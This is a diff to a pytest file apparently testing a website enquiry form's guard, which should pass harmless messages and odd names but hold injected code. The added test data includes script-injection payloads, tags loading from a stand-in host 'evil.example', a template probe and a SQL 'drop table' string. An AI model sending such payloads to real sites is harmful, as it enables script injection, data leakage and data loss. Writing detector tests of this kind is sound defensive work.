@@ -72,11 +72,40 @@ def test_what_looks_wrong_is_kept_for_the_owner_and_mailed_to_nobody(
         "My page is www.thandi.example, is that the style you like?",
         "Mornings or afternoons; 1 or 2 of us. Select a time for us, please!",
         "Is 09:00 < 10:00 better? To: me, from: you :)",
+        "Could you send me a <link> to the menu?",
+        "I filled in the <form> on your site and liked the < style > of <body> oil you use.",
+        "I teach JavaScript: is there a discount? I sleep(badly), on 2 or 1 pillows.",
+        "Could you drop table flowers with it?",
     ],
 )
 def test_a_person_with_one_link_or_odd_signs_is_not_held(client, stamp, message):
     send(client, "enquiry", question(stamp=stamp, message=message))
     assert Enquiry.objects.get().status == "new"
+
+
+@pytest.mark.parametrize(
+    "name", ["Thandi (acc: 123)", "Thandi, abcc: 7", "Thandi (cc: Sipho)", "Thandi <link>"]
+)
+def test_a_person_with_an_odd_name_is_not_held(client, stamp, name):
+    send(client, "enquiry", question(stamp=stamp, name=name))
+    assert Enquiry.objects.get().status == "new"
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "<body onload=alert(1)>",
+        "<link rel=stylesheet href=//evil.example>",
+        "<form/action=//evil.example>",
+        "</style><p>",
+        "<SCRIPT src=//evil.example>",
+        "{{ config }}",
+        "x'; drop table users--",
+    ],
+)
+def test_a_programs_code_is_held(client, stamp, message):
+    send(client, "enquiry", question(stamp=stamp, message=message))
+    assert Enquiry.objects.get().held_because == guards.PROGRAM
 
 
 def test_the_same_words_from_two_others_are_held(client, stamp):
